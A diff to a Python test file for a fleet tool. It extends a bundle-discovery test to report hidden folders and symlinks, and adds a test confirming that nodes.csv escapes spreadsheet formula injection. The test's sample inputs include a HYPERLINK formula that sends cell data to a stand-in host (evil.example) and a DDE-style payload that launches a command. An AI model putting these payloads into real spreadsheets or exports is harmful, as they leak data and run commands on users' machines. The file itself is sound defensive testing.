@@ -130,6 +130,28 @@ def test_bundle_discovery_names(tmp_path: Path) -> None:
     (tmp_path / "a node!").mkdir()
     (tmp_path / "n2.tgz").write_bytes(b"")
     (tmp_path / ".hidden").mkdir()
+    (tmp_path / ".DS_Store").write_bytes(b"\0")  # noise, not a node
+    (tmp_path / "linked-node").symlink_to(tmp_path / "a node!")
     found, bad = find_bundles(tmp_path)
-    assert [n for n, _ in found] == ["a-node", "n2"] and not bad
+    assert [n for n, _ in found] == ["a-node", "n2"]
+    # never skipped silently: a hidden folder and a link are nodes without an answer, with the reason
+    reasons = {b.node: b.reason for b in bad}
+    assert set(reasons) == {"hidden", "linked-node"}, reasons
+    assert "hidden" in reasons["hidden"] and "symbolic link" in reasons["linked-node"]
     assert node_name("../../etc") == "etc" and node_name("///") == "node"
+
+
+def test_nodes_csv_cells_never_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
+    """A hostname or reason from a node's bundle such as ``=HYPERLINK(...)`` is text in nodes.csv."""
+    import csv
+
+    from vllm_runbooks.fleet.model import WHY_BAD_BUNDLE, unanswered
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tx"]
+    nodes = [unanswered(h, WHY_BAD_BUNDLE, "unreadable", "bundle") for h in hostile]
+    result = FleetResult(nodes=nodes)
+    result.save(tmp_path)
+    with (tmp_path / "fleet" / "nodes.csv").open(encoding="utf-8", newline="") as handle:
+        cells = [c for row in csv.reader(handle) for c in row]
+    assert cells and all(not c or c[0] not in "=+-@\t\r" for c in cells), cells
+    assert any(c == "'" + hostile[0] for c in cells)
